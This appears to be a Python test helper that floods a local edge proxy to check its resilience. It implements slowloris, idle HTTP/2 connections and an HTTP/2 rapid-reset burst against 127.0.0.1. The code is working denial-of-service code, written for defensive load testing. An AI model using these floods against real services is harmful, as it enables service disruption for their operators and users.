"""Attacks on an edge, in a process of their own: `python -m tests.floods KIND PORT`. Bounded in count; each ends with its standard input.

It prints a line once the attack is on. What it sends is made beforehand: the machine's time shall go to the attacked.
"""

import argparse
import asyncio
import sys
from collections.abc import Awaitable, Callable

from h2.config import H2Configuration
from h2.connection import H2Connection

CONNECTIONS = 400
TRICKLE_INTERVAL_S = 0.5
RESETS_A_CONNECTION = 1000
"""Far beyond what Envoy takes before it closes a connection."""
RESET_CONNECTIONS = 4
RESET_PAUSE_S = 0.2

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def _connect(port: int, count: int) -> list[Streams]:
    return [await asyncio.open_connection("127.0.0.1", port) for _ in range(count)]


async def slowloris(port: int, on: Callable[[], None]) -> None:
    """Requests that never come to an end: half of them amid the headers, half of them amid the body."""
    crowd = await _connect(port, CONNECTIONS)
    for number, (_, writer) in enumerate(crowd):
        head = b"POST /v1/sessions HTTP/1.1\r\nhost: edge\r\n"
        writer.write(head if number % 2 else head + b"content-length: 1000000\r\n\r\n")
    on()
    while True:
        await asyncio.sleep(TRICKLE_INTERVAL_S)
        for number, (_, writer) in enumerate(crowd):
            if not writer.is_closing():
                writer.write(b"x-a: b\r\n" if number % 2 else b"x")


async def idle(port: int, on: Callable[[], None]) -> None:
    """Connections that say nothing, or no more than that they speak HTTP/2."""
    crowd = await _connect(port, CONNECTIONS)
    hello = H2Connection(H2Configuration())
    hello.initiate_connection()
    greeting = hello.data_to_send()
    for _, writer in crowd[::2]:
        writer.write(greeting)
    on()
    await asyncio.Event().wait()


async def rapid_reset(port: int, on: Callable[[], None]) -> None:
    """Requests that are taken back at once, over one connection after the other."""
    client = H2Connection(H2Configuration(validate_outbound_headers=False))
    client.initiate_connection()
    head = {":method": "GET", ":scheme": "http", ":authority": "edge", ":path": "/v1/me"}
    for _ in range(RESETS_A_CONNECTION):
        stream_id = client.get_next_available_stream_id()
        client.send_headers(stream_id, list(head.items()), end_stream=True)
        client.reset_stream(stream_id)
    burst = client.data_to_send()

    async def attack() -> None:
        while True:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            try:
                writer.write(burst)
                while await reader.read(65536):
                    pass
            except ConnectionError:
                pass
            finally:
                writer.transport.abort()
            await asyncio.sleep(RESET_PAUSE_S)

    async with asyncio.TaskGroup() as attackers:
        for _ in range(RESET_CONNECTIONS):
            attackers.create_task(attack())
        on()


KINDS: dict[str, Callable[[int, Callable[[], None]], Awaitable[None]]] = {
    "slowloris": slowloris,
    "idle": idle,
    "rapid_reset": rapid_reset,
}


async def _until_told(kind: str, port: int) -> None:
    attack = asyncio.ensure_future(KINDS[kind](port, lambda: print("on", flush=True)))
    told = asyncio.create_task(asyncio.to_thread(sys.stdin.read))
    await asyncio.wait((attack, told), return_when=asyncio.FIRST_COMPLETED)
    if attack.done():
        attack.result()
    attack.cancel()


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("port", type=int)
    arguments = parser.parse_args()
    asyncio.run(_until_told(arguments.kind, arguments.port))
